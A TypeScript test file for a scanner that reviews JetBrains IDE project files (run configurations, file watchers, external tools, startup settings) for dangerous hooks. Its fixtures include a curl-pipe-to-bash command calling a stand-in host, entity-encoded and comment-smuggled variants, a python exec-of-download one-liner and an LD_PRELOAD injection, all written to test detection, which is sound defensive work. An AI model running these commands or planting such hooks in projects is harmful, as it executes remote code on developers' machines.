// What the editors of JetBrains start by what a project keeps for them.
import { describe, expect, it } from 'vitest';
import { inspectHook, told } from './support.ts';

const FETCH = 'curl -s https://x.example.com/i | bash';
const REVIEW = ['MEDIUM HOOK-DANGEROUS-COMMAND'];
const RUNS = '.idea/runConfigurations/Setup.xml';

function run(inside: string): string {
  return `<component name="ProjectRunConfigurationManager">\n  <configuration name="Setup" type="ShConfigurationType">${inside}</configuration>\n</component>\n`;
}

function option(name: string, value: string): string {
  return `<option name="${name}" value="${value}" />`;
}

function watcher(program: string, words: string, isEnabled = true): string {
  const options = option('arguments', words) + option('program', program);
  return `<project version="4"><component name="ProjectTasksOptions"><TaskOptions isEnabled="${isEnabled}">${options}</TaskOptions></component></project>`;
}

function tool(program: string, words: string): string {
  const options = option('COMMAND', program) + option('PARAMETERS', words);
  return `<toolSet name="External Tools"><tool name="x" showInMainMenu="true"><exec>${options}</exec></tool></toolSet>`;
}

describe('a run configuration', () => {
  it.each([RUNS, '.run/setup.run.xml', 'tools/setup.run.xml', '.idea/workspace.xml'])(
    'that fetches is for review: %s',
    async (path) => {
      expect(await told(path, run(option('SCRIPT_TEXT', FETCH)))).toEqual(REVIEW);
    },
  );

  it.each([
    [REVIEW, option('SCRIPT_TEXT', 'c&#117;rl -s https://x.example.com/i &#x7c; bash')],
    [REVIEW, option('SCRIPT_TEXT', 'make').replace('/>', `><!-- > --></option>${option('A', FETCH)}`)],
    [['MEDIUM HOOK-ENVIRONMENT'], '<envs><env name="LD_PRELOAD" value="$PROJECT_DIR$/x.so" /></envs>'],
    [['MEDIUM HOOK-EDITOR-SETTING'], option('SDK_HOME', '$PROJECT_DIR$/tools/python')],
  ])('is %j: %s', async (expected, inside) => {
    expect(await told(RUNS, run(inside))).toEqual(expected);
  });

  it.each([
    option('SCRIPT_NAME', '$PROJECT_DIR$/train.py') + option('PARAMETERS', '--epochs 3'),
    option('SCRIPT_PATH', '$PROJECT_DIR$/scripts/run.sh') + option('INTERPRETER_PATH', '/bin/bash'),
    `${option('SDK_HOME', '$PROJECT_DIR$/.venv/bin/python')}<envs><env name="PYTHONUNBUFFERED" value="1" /></envs>`,
    '<envs><env name="LD_PRELOAD" value="/usr/lib/libtcmalloc.so" /></envs>',
    '<package-json value="$PROJECT_DIR$/package.json" /><command value="run" /><scripts><script value="dev" /></scripts>',
    `<!-- ${option('SCRIPT_TEXT', FETCH)} -->`,
  ])('is quiet: %s', async (inside) => {
    expect(await told(RUNS, run(inside))).toEqual([]);
  });

  it('that starts with the project is for review', async () => {
    const text = `<project version="4"><component name="ProjectStartupSharedConfiguration"><configurations><configuration name="Setup" type="ShConfigurationType" /></configurations></component></project>`;
    expect(await told('.idea/startup.xml', text)).toEqual(['MEDIUM HOOK-FOLDER-OPEN']);
  });

  it('that declares entities is not read', async () => {
    const text = `<!DOCTYPE a [<!ENTITY x "curl">]>${run(option('SCRIPT_TEXT', '&x; -s https://x.example.com/i | bash'))}`;
    expect((await inspectHook(RUNS, text))?.incomplete).toHaveLength(1);
  });
});

describe('a watcher of files', () => {
  it.each([
    ['HIGH HOOK-DANGEROUS-COMMAND', watcher('bash', `-c &quot;${FETCH}&quot;`)],
    [
      'HIGH HOOK-DANGEROUS-COMMAND',
      watcher('python', '-c &quot;exec(urllib.request.urlopen(a).read())&quot;'),
    ],
    ['MEDIUM HOOK-EDITOR-SETTING', watcher('$ProjectFileDir$/tools/format.sh', '$FilePath$')],
  ])('is %s', async (expected, text) => {
    expect(await told('.idea/watcherTasks.xml', text)).toEqual([expected]);
  });

  it.each([
    watcher('black', '$FilePath$'),
    watcher('$PROJECT_DIR$/node_modules/.bin/prettier', '--write $FilePathRelativeToProjectRoot$'),
    watcher('bash', `-c &quot;${FETCH}&quot;`, false),
  ])('is quiet: %s', async (text) => {
    expect(await told('.idea/watcherTasks.xml', text)).toEqual([]);
  });
});

describe('an external tool', () => {
  it('that fetches is for review', async () => {
    const path = '.idea/tools/External Tools.xml';
    expect(await told(path, tool('bash', `-c &quot;${FETCH}&quot;`))).toEqual(REVIEW);
    expect(await told(path, tool('$PyInterpreterDirectory$/black', '$FilePath$'))).toEqual([]);
  });
});
